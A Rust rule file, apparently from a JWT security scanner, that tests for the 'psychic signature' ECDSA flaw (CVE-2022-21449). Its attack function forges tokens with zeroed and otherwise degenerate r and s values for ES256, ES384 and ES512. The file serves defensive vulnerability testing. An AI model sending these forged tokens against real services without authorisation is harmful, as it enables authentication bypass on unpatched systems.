//! SIG-09: Zero ECDSA signature accepted ('psychic').

use crate::arithmetic::curve::Curve;
use crate::live::{Plan, Scene};
use crate::rules::prelude::*;

pub(super) static RULE: Rule = Rule {
    id: "SIG-09",
    title: "Zero ECDSA signature accepted ('psychic')",
    tier: Tier::Active,
    severity: Severity::Critical,
    references: "CVE-2022-21449; WSTG-SESS-10; RFC 8725 3.4; CWE-347",
    why: "A famous verifier accepted r = s = 0 for every message: no key needed.",
    fix: "Update the Java runtime or the library; check 0 < r, s < n.",
    bad: Example::behaviour("An ES256 token whose signature is 64 zero bytes is accepted."),
    good: Example::behaviour("It is refused."),
    checks: &[Check::Attack(attack)],
};

fn attack(scene: &Scene) -> Plan {
    let forge = scene.forge();
    let algs: Vec<&str> =
        if scene.valid.alg().starts_with("ES") { vec![scene.valid.alg()] } else { vec!["ES256", "ES384", "ES512"] };
    let mut attempts = Vec::new();
    for alg in algs {
        let Some(curve) = Curve::of_algorithm(alg) else { continue };
        let size = curve.coordinate_bytes;
        let n = curve.n.to_bytes_be();
        let padded = |bytes: &[u8]| [vec![0; size.saturating_sub(bytes.len())], bytes.to_vec()].concat();
        let header = forge.header(alg);
        attempts.push(forge.with_signature(&format!("{alg}, r = s = 0"), &header, &vec![0; size * 2]));
        attempts.push(forge.with_signature(&format!("{alg}, r = s = 0 in DER"), &header, &[0x30, 6, 2, 1, 0, 2, 1, 0]));
        attempts.push(forge.with_signature(&format!("{alg}, r = s = n"), &header, &[padded(&n), padded(&n)].concat()));
        attempts.push(forge.with_signature(
            &format!("{alg}, r = n, s = 0"),
            &header,
            &[padded(&n), vec![0; size]].concat(),
        ));
        attempts.push(forge.with_signature(
            &format!("{alg}, r = 0, s = 1"),
            &header,
            &[vec![0; size], padded(&[1])].concat(),
        ));
    }
    Plan::of(attempts)
}
